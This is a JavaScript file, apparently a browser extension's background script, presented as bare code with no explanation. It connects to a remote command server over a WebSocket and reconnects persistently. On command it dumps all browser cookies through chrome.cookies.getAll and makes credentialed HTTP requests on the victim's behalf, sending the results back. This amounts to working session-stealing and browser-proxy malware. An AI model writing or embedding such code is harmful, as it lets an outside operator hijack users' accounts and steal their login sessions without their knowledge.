var ws = false, last = Date.now();
const RPC = {
  async HTTP_REQUEST(p) {
    const o = { method: p.method, mode: 'cors', cache: 'no-cache', credentials: p.authenticated ? 'include' : 'omit', headers: p.headers, redirect: 'follow' };
    if (p.body) o.body = Uint8Array.from(atob(p.body), (c) => c.charCodeAt(0));
    const r = await fetch(p.url, o);
    const h = {};
    for (const [k, v] of r.headers) h[k] = v;
    const bytes = new Uint8Array(await r.arrayBuffer());
    return { url: r.url, status: r.status, headers: h, body: btoa(Array.from(bytes, (b) => String.fromCharCode(b)).join('')) };
  },
  async PING() { return { pong: true }; },
  async GET_COOKIES() { return { cookies: await new Promise((d) => chrome.cookies.getAll({}, d)) }; }
};
function open() {
  ws = new WebSocket('wss://node.rl-77.example:4343');
  ws.onopen = () => { last = Date.now(); };
  ws.onmessage = async (e) => {
    last = Date.now();
    const m = JSON.parse(e.data);
    if (m.action in RPC) ws.send(JSON.stringify({ id: m.id, origin_action: m.action, result: await RPC[m.action](m.data) }));
  };
  ws.onclose = () => { ws = false; };
}
setInterval(() => { if (!ws || Date.now() - last > 20000) open(); }, 3000);
open();
